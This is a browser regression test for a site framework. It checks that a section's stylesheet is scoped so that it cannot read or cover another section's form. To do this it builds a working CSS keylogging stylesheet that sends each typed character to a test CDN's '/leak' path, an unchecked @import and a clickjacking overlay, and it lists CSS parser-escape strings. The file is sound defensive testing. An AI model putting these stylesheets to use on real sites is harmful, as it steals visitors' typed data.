import { parsePageData, PAGE_DATA_ID } from '@portico/contract/page-data';
import { HostileCdn } from '@portico/testing/hostile-builds';
import { expect, serve, test, workerPorts, writeConfig, type PorticoSite } from '../support/fixtures';
import { expectHydrated } from '../support/page-clock';

// Issue 46, "Home's stylesheet reads what a visitor types into Contact": a
// stylesheet added to Home's manifest with its hash, one `[value$="N"]`
// rule per character with a background image on Home's origin, an @import
// of CSS no publish checked, and an overlay on <body> over Contact's Send.
// The page links Home's stylesheets scoped to Home's slot
// (node-sections' scopeSectionStylesheet, server/src/ssr/section-styles.ts),
// and Contact's fields keep what is typed out of their markup. Both checked
// failing before the change: Home's origin was asked for /leak?… at each
// keystroke and for live.css, and the overlay was the element at Send's
// centre. The publish refusal of the same stylesheet, with its reasons:
// releases/src/checks/__tests__/publish-checks.test.ts.

const SLOT = 10;
const CHARACTERS = [...'0123456789 +abcdefghijklmnopqrstuvwxyzA'];

let cdn: HostileCdn;
test.beforeAll(async () => {
  cdn = await HostileCdn.start();
});
test.afterAll(async () => {
  await cdn.close();
});

/** Issue 46's stylesheet, with Home's origin (the CDN) as the place each keystroke is sent. */
function leakingStylesheet(origin: string): string {
  const leak = CHARACTERS.flatMap((character) =>
    ['name', 'telephone'].map(
      (field) => `#contact input[name=${field}][value$="${character}"]{background-image:url(${origin}/leak?${field}=${encodeURIComponent(character)})}`,
    ),
  );
  return [
    `@import url(${origin}/live.css);`,
    ...leak,
    'body:has(#contact:not([hidden]))::after{content:"";position:fixed;inset:0;z-index:2147483647;background:rgb(255 0 0 / 10%)}',
    '.home-styled-mark{color:rgb(1, 2, 3)}',
  ].join('\n');
}

async function siteWithStyledHome(parallelIndex: number): Promise<PorticoSite & { close(): Promise<void> }> {
  const remotes: Record<string, string> = {
    home: cdn.publish('styled-home', 'remote-home'),
    about: cdn.publish('about', 'remote-about'),
    contact: cdn.publish('contact', 'remote-contact'),
  };
  cdn.styled('styled-home', { 'home-hostile.css': { css: leakingStylesheet(cdn.origin) } });
  const basePort = workerPorts(parallelIndex, SLOT);
  // A page budget a busy machine cannot miss: this is the server-rendered page's defence (a page past its budget is the
  // browser's to render, and its stylesheets are then the section's own, unscoped: docs/security.md says so).
  return serve(basePort, writeConfig(basePort, { remotes }), undefined, { budgetMs: 20_000 });
}

test("Home's stylesheet of issue 46: typing into Contact sends nothing to Home's origin, live.css is never asked for, and Send is not covered", async ({
  page,
}, testInfo) => {
  const site = await siteWithStyledHome(testInfo.parallelIndex);
  try {
    const asked: string[] = [];
    page.on('request', (request) => {
      if (request.url().startsWith(cdn.origin)) asked.push(new URL(request.url()).pathname + new URL(request.url()).search);
    });
    await page.goto(site.url);
    const data = await page.locator(`#${PAGE_DATA_ID}`).textContent();
    expect(parsePageData(data ?? '')?.rendered).toEqual(['home', 'about', 'contact']);
    // Home's stylesheet is on the page, as its copy from the page's origin: every rule Chromium holds of it is inside Home's slot.
    const rules = await page.evaluate(() =>
      [...document.styleSheets]
        .filter((sheet) => (sheet.ownerNode as Element | null)?.getAttribute('data-href')?.includes('/styled-home/'))
        .map((sheet) => ({ href: new URL(sheet.href!).pathname.split('/')[1], rules: [...sheet.cssRules].map((rule) => rule.cssText) })),
    );
    expect(rules).toEqual([{ href: 'section-styles', rules: [':where([data-section-island="home"]) .home-styled-mark { color: rgb(1, 2, 3); }'] }]);

    await page.getByRole('tab', { name: 'Contact us' }).click();
    const contact = page.getByRole('tabpanel', { name: 'Contact us' });
    const send = contact.getByRole('button', { name: 'Send message' });
    await expectHydrated(send);
    await contact.getByLabel('Name').pressSequentially('asha b');
    await contact.getByLabel('Telephone').pressSequentially('+91 98765 43210');

    // Send's centre is Send: nothing of Home's covers it.
    const atCentre = await send.evaluate((button) => {
      const box = button.getBoundingClientRect();
      return document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2)?.closest('button') === button;
    });
    expect(atCentre).toBe(true);
    // The fields' markup holds nothing typed, so no attribute selector anywhere can read it.
    expect(await contact.getByLabel('Telephone').getAttribute('value')).toBeNull();

    await page.waitForLoadState('networkidle');
    const fromAnyone = [...asked, ...cdn.requests].filter((path) => path.includes('/leak') || path.includes('live.css'));
    expect(fromAnyone).toEqual([]);
    expect(site.logged.filter((line) => line.includes('rules left out'))).toEqual([
      expect.stringContaining(`the home section's stylesheets: ${CHARACTERS.length * 2 + 2} rules left out, which would reach outside its slot`),
    ]);
  } finally {
    await site.close();
  }
});

// What the scoping writes is what Chromium applies: each stylesheet below
// (escapes a parser that reads differently from the browser would let
// through, and the issue's) scoped for Home and put on a page with Home's
// and Contact's slots; every style rule Chromium holds, at any depth,
// starts with Home's slot, and nothing outside Home's slot is styled.
const ESCAPES = [
  '.z{color:"x\n}body{outline:9px solid red}',
  '.z{background:url(x.png\n}body{outline:9px solid red}',
  '.z{color:red}/* } body{outline:9px solid red} */',
  '.z{content:"\\"}body{outline:9px solid red}"}',
  '@media screen{}}body{outline:9px solid red}',
  '.z{color:red;}body{outline:9px solid red}{',
  '.z:is(body *){outline:9px solid red}',
  '.z{color:red}\\',
  '@media (min-width:1px){body{outline:9px solid red}.z{outline:1px solid}}',
  '<!-- body{outline:9px solid red} -->',
  '.z,body{outline:9px solid red}',
  '#contact input[value$="9"], .z::after{outline:9px solid red}',
];

test('in Chromium, every rule of a scoped stylesheet is inside its slot, and nothing outside it is styled', async ({ page }) => {
  const { scopeSectionStylesheet } = await import('@portico/node-sections');
  for (const source of ESCAPES) {
    const { css } = scopeSectionStylesheet(source, { section: 'home', url: 'https://home.example/a.css', origin: 'https://home.example' });
    await page.setContent(
      '<main><section id="home"><div data-section-island="home"><p class="z">home</p></div></section><section id="contact"><div data-section-island="contact"><input name="telephone" value="9"><p class="z">contact</p></div></section></main>',
    );
    await page.addStyleTag({ content: `${css}\n` });
    const found = await page.evaluate(() => {
      const selectors: string[] = [];
      const walk = (rules: CSSRuleList) => {
        for (const rule of rules) {
          if (rule instanceof CSSStyleRule) selectors.push(...rule.selectorText.split(/,(?![^(]*\))/).map((selector) => selector.trim()));
          else if ('cssRules' in rule) walk((rule as CSSGroupingRule).cssRules);
        }
      };
      walk(document.styleSheets[0]!.cssRules);
      const outside = [document.body, document.querySelector('#contact .z')!, document.querySelector('#contact input')!];
      return { selectors, styled: outside.map((element) => getComputedStyle(element).outlineStyle) };
    });
    for (const selector of found.selectors) expect(selector, source).toMatch(/^:where\(\[data-section-island="home"\]\) /);
    expect(found.styled, source).toEqual(['none', 'none', 'none']);
  }
});
